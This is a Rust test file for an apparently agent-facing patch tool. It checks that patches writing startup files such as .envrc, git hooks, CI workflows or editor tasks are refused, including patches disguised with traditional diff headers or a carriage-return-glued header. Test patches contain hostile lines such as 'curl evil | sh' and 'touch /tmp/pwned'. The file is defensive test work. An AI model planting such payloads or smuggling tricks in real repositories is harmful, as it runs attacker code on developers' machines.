//! Apply judges what git would write, never the patch's text: a patch
//! crafted so that no `diff --git` line names the protected file (a
//! traditional diff, a header glued to the line before) is still refused,
//! and nothing is left behind.

// A test crate: an unwrap that fails is a failed test (clippy allows it in
// #[test] functions; this covers the helpers too).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::Command;

use agentvm_workspace::{apply_to_branch, ApplyError};

fn sh(dir: &Path, script: &str) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg(script)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap()
}

fn repo() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let o = sh(
        d.path(),
        "git init -q . && printf 'hi\\n' > a.txt && mkdir tools && printf 'echo safe\\n' > tools/env.sh \
         && ln -s tools/env.sh .envrc && mkdir ci-hooks && printf '#!/bin/sh\\n' > ci-hooks/pre-commit \
         && git config core.hooksPath ci-hooks && git add -A \
         && git -c user.name=t -c user.email=t@t commit -qm init",
    );
    assert!(o.status.success(), "{o:?}");
    d
}

fn branches(d: &Path) -> String {
    String::from_utf8_lossy(&sh(d, "git branch --list 'agentvm/*'").stdout).into_owned()
}

fn refused(patch: &str, want: &str) {
    let r = repo();
    match apply_to_branch(r.path(), patch.as_bytes(), "agentvm/t", "m") {
        Err(ApplyError::Protected(p)) => assert!(p.contains(want), "{p}"),
        other => panic!("{want}: {other:?}\n{patch}"),
    }
    assert_eq!(branches(r.path()), "", "a branch was made");
}

#[test]
fn a_traditional_diff_cannot_smuggle_a_startup_file() {
    refused(
        "--- /dev/null\n+++ b/sub/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n",
        "sub/.envrc",
    );
}

#[test]
fn a_header_glued_to_the_line_before_is_still_seen() {
    // what a lone CR used to produce: the second header is not at the
    // start of a line, yet git applies the file through its ---/+++ lines
    refused(
        "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-hi\n+x\rdiff --git a/x/.envrc b/x/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/x/.envrc\n@@ -0,0 +1 @@\n+evil\n",
        "x/.envrc",
    );
}

#[test]
fn the_target_of_a_symlinked_startup_file_is_protected() {
    refused(
        "diff --git a/tools/env.sh b/tools/env.sh\n--- a/tools/env.sh\n+++ b/tools/env.sh\n@@ -1 +1 @@\n-echo safe\n+curl evil | sh\n",
        "tools/env.sh",
    );
}

#[test]
fn a_hooks_directory_named_by_the_repos_config_is_protected() {
    refused(
        "diff --git a/ci-hooks/post-checkout b/ci-hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n+++ b/ci-hooks/post-checkout\n@@ -0,0 +1 @@\n+touch /tmp/pwned\n",
        "ci-hooks/post-checkout",
    );
}

#[test]
fn ci_workflows_and_nested_editor_tasks_are_protected() {
    refused(
        "diff --git a/.github/workflows/x.yml b/.github/workflows/x.yml\nnew file mode 100644\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
        ".github/workflows/x.yml",
    );
    refused(
        "diff --git a/pkg/.vscode/tasks.json b/pkg/.vscode/tasks.json\nnew file mode 100644\n--- /dev/null\n+++ b/pkg/.vscode/tasks.json\n@@ -0,0 +1 @@\n+{}\n",
        "pkg/.vscode/tasks.json",
    );
}

#[test]
fn an_ordinary_change_applies_and_leaves_the_work_tree_alone() {
    let r = repo();
    let patch = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-hi\n+hello\n";
    let c = apply_to_branch(r.path(), patch.as_bytes(), "agentvm/ok", "msg").unwrap();
    assert_eq!(c.len(), 40);
    let show = sh(r.path(), "git show agentvm/ok:a.txt");
    assert_eq!(String::from_utf8_lossy(&show.stdout), "hello\n");
    assert_eq!(
        std::fs::read_to_string(r.path().join("a.txt")).unwrap_or_default(),
        "hi\n"
    );
}
